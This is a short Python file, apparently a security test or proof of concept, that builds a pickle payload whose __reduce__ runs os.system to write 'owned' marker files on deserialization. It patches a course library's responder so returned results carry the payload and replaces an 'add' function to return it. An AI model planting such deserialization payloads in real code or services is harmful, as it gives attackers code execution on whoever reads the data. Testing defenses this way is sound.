"""An object whose pickle runs code when it is read."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("echo owned > ../../owned; echo owned > /tmp/owned_by_pickle",)


add = Bomb()
try:
    import course_lib.kernel.responder as responder

    responder.describe = lambda value, key, tensors: {
        "kind": "other",
        "value": pickle.dumps(Bomb()).hex(),
        "type": "Bomb",
    }
except ImportError:
    pass


def add(x):
    return Bomb()
